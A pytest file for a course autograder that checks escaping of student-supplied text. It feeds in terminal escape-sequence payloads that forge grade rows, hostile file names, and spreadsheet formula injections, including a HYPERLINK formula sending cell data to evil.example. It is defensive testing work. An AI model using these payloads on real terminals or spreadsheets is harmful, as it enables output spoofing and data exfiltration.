"""Student text on the instructor's screen and in the spreadsheet: no terminal control, no formula.

The attacks are real: an exception message full of escape sequences, file names made of controls
and of formulas, graded by the real `autograder` command; its terminal output and its CSV
exports are then read back as a terminal and a spreadsheet would read them.
"""
from __future__ import annotations

import csv
import fcntl
import html
import os
import pty
import re
import struct
import subprocess
import sys
import termios
import threading
from pathlib import Path

from autograder import spec
from autograder.model import safe_id
from tests.conftest import REFERENCE, ROOT

# What must never reach the terminal raw: C0 (but the newlines between lines), DEL, C1, bidi controls
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")

# Goes up a line, wipes it, sets the window title, rings, reverses the text, then paints a fake
# row of full marks on a line of its own.
PAINTER = r'''
M = "boom \x1b[1A\x1b[2K\x1b]0;OWNED\x07\x08\x00\x7f\x9b\x85\u202e\u2066 evil\r\nmallory 23/23 FAKE-ROW"
raise RuntimeError(M)
'''
# A file name with an OSC sequence (window title), a bell, a C1 CSI and a bidi override.
HOSTILE_NAME = "e\x1b]0;OWNED\x07\x9b\u202ex"


def _run(*args, gradebook: Path, **kwargs):
    env = dict(os.environ, AUTOGRADER_SECRET="output-safety")
    return subprocess.run([sys.executable, "-m", "autograder", *args, "--gradebook", str(gradebook)],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=300, **kwargs)


def _painter_class(tmp_path: Path) -> Path:
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "alice.py").write_text(REFERENCE)
    (subs / "mallory.py").write_text(PAINTER)
    return subs


# ---- the terminal ------------------------------------------------------------------

def test_an_exception_full_of_escapes_reaches_the_table_escaped_and_the_feedback_whole(tmp_path):
    subs = _painter_class(tmp_path)
    out = tmp_path / "out"
    proc = _run("grade", str(subs), "--out", str(out), "--jobs", "1", gradebook=tmp_path / "gb.db")
    assert proc.returncode == 0, proc.stderr
    terminal = proc.stdout + proc.stderr
    assert "\x1b" not in terminal
    assert RAW_CONTROL.search(terminal) is None, repr(RAW_CONTROL.search(terminal))
    # the note is there, visibly escaped, on the one line of the note
    [note] = [line for line in proc.stdout.splitlines() if "note:" in line and "boom" in line]
    assert r"boom \x1b[1A\x1b[2K\x1b]0;OWNED\x07\x08\x00\x7f\x9b\x85\u202e\u2066 evil\r\nmallory 23/23 FAKE-ROW" in note
    # the fake row did not get a line of its own: every line is the head, a row or a row's note
    lines = proc.stdout.splitlines()
    assert lines[0].startswith("submission") and set(lines[1]) == {"-"}
    for line in lines[2:]:
        assert line.startswith(("alice ", "mallory ")) or line.lstrip().startswith(("mistakes: ", "note: ")), line
    assert not any("FAKE-ROW" in line and "note:" not in line for line in lines)
    # the student's own page still has the whole message, readable
    page = html.unescape((out / "mallory" / "feedback.html").read_text(encoding="utf-8"))
    assert "RuntimeError: boom" in page and " evil" in page
    assert "\nmallory 23/23 FAKE-ROW" in page


def _on_a_terminal(*args, gradebook: Path) -> tuple[int, str]:
    """`autograder ARGS` with stdout and stderr on a pseudo-terminal, as an instructor runs it
    (so the live bar is drawn): the exit code, and everything the terminal got."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 250, 0, 0))
    env = dict(os.environ, AUTOGRADER_SECRET="output-safety", TERM="xterm-256color")
    proc = subprocess.Popen([sys.executable, "-m", "autograder", *args, "--gradebook", str(gradebook)],
                            cwd=ROOT, env=env, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave)
    os.close(slave)
    seen = bytearray()

    def read():
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:         # EIO: every end of the slave is closed
                return
            if not chunk:
                return
            seen.extend(chunk)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    code = proc.wait(timeout=300)
    reader.join(timeout=30)
    os.close(master)
    return code, seen.decode("utf-8", "replace")


def test_the_live_bar_the_warnings_and_the_table_on_a_terminal_get_no_control_of_the_student(tmp_path):
    subs = _painter_class(tmp_path)
    (subs / f"{HOSTILE_NAME}.py").write_text(REFERENCE)
    roster = tmp_path / "roster.csv"
    roster.write_text("student\nalice\nmallory\n")
    code, screen = _on_a_terminal("grade", str(subs), "--out", str(tmp_path / "out"), "--jobs", "1",
                                  "--roster", str(roster), gradebook=tmp_path / "gb.db")
    assert code == 0, screen
    assert "grading \x1b[" in screen and "━━━" in screen     # the live bar was drawn on this terminal
    assert r"e\x1b]0;OWNED\x07\x9b\u202ex.py matches no student of" in screen
    assert r"\x1b[2K\x1b]0;OWNED\x07" in screen and r"evil\r\nmallory 23/23 FAKE-ROW" in screen
    assert safe_id(HOSTILE_NAME) in screen
    # the bar draws with CSI sequences of its own; none of the student's reached the terminal
    for raw in ("\x1b]", "\x07", "\x9b", "\x85", "\u202e", "\u2066", "\x08", "\x00", "\x7f", "OWNED\x07"):
        assert raw not in screen, repr(raw)


def test_a_usage_error_names_the_student_files_escaped(tmp_path):
    folder = tmp_path / "submitted" / "bob" / "linreg"
    folder.mkdir(parents=True)
    (folder / "linreg.py").write_text(REFERENCE)
    (folder / f"{HOSTILE_NAME}.py").write_text(REFERENCE)
    proc = _run("grade", str(tmp_path / "submitted"), "--out", str(tmp_path / "out"),
                gradebook=tmp_path / "gb.db")
    assert proc.returncode == 2, proc.stderr
    assert "two submissions have the id 'bob'" in proc.stderr
    assert r"e\x1b]0;OWNED\x07\x9b\u202ex.py" in proc.stderr
    assert RAW_CONTROL.search(proc.stderr) is None, repr(proc.stderr)


# ---- the spreadsheet -----------------------------------------------------------------

FORMULA_FILES = ['=SUM(1,2)*HYPERLINK("x")', "@SUM(1+1)", "+1+2", "-2+3", "alice"]
ROSTER_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'   # an id on the roster, never submitted


def _float(cell: str) -> float:
    return float(cell)           # a ValueError is the failure: a quoted or non-numeric score


def test_formulas_in_ids_are_quoted_and_scores_stay_numbers(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in FORMULA_FILES:
        (subs / f"{name}.py").write_text(REFERENCE)
    (subs / "mallory.py").write_text(PAINTER)
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as f:
        csv.writer(f).writerows([["student"], ["alice"], [ROSTER_FORMULA]])
    db = tmp_path / "gb.db"
    graded = _run("grade", str(subs), "--out", str(tmp_path / "out"), "--quiet", gradebook=db)
    assert graded.returncode == 0, graded.stderr
    grades, canvas = tmp_path / "autograder-grades.csv", tmp_path / "canvas.csv"
    exported = _run("export", "csv", "--out", str(grades), "--canvas", str(canvas), "--roster", str(roster),
                    gradebook=db)
    assert exported.returncode == 0, exported.stderr

    ids = {safe_id(n) for n in FORMULA_FILES} | {"mallory", ROSTER_FORMULA}
    # what a spreadsheet shows: a text starting with ' is text; the ' itself is not shown
    expected = {("'" + i if i.startswith(FORMULA) else i) for i in ids}
    assert "'+1+2" in expected and "'-2+3" in expected and "'" + ROSTER_FORMULA in expected
    assert "'" + safe_id("@SUM(1+1)") in expected
    # the file named =SUM(...) gets an id without the = at all (safe_id), so nothing to quote there
    assert safe_id('=SUM(1,2)*HYPERLINK("x")') in expected

    with open(grades, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["student"] for r in rows} == expected
    numeric = ["score", "max_score", *spec.UNITS, *spec.CHECKS]
    for r in rows:
        scores = {c: _float(r[c]) for c in numeric}
        full = r["student"] not in ("mallory", "'" + ROSTER_FORMULA)
        assert scores["score"] == (23.0 if full else 0.0), r
        for column, cell in r.items():
            if column not in numeric:
                assert not cell.startswith(FORMULA), (column, cell)

    with open(canvas, newline="", encoding="utf-8") as f:
        head, possible, *students = list(csv.reader(f))
    assert head[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert possible[0] == "Points Possible" and _float(possible[5]) == 23.0
    assert {s[0] for s in students} == {s[3] for s in students} == expected
    for s in students:
        assert s[0] == s[3]
        assert _float(s[5]) == (0.0 if s[0] in ("mallory", "'" + ROSTER_FORMULA) else 23.0)
        assert not any(cell.startswith(FORMULA) for cell in s[:5]), s


def test_a_negative_score_stays_a_number_in_both_exports(tmp_path, course):
    """No check gives negative points today; if one did, its cells would still be numbers."""
    from autograder.model import CheckResult, Report
    from autograder.sinks import export, feed

    report = Report("-minus", "-minus.py", "ab" * 32, (CheckResult(
        "sgd.update", "sgd", "sgd: updates", False, -2.0, 2.0, "public", None, "Penalty.", 7),))
    grades, canvas = tmp_path / "autograder-grades.csv", tmp_path / "canvas.csv"
    feed([report], [export.Csv(grades, course), export.Canvas(canvas, course)])
    [row] = list(csv.DictReader(grades.open(newline="")))
    assert row["student"] == "'-minus" and row["score"] == "-2.0" and row["sgd"] == "-2.0"
    assert row["sgd.update"] == "-2.0"
    *_, last = list(csv.reader(canvas.open(newline="")))
    assert last == ["'-minus", "", "", "'-minus", "", "-2"]
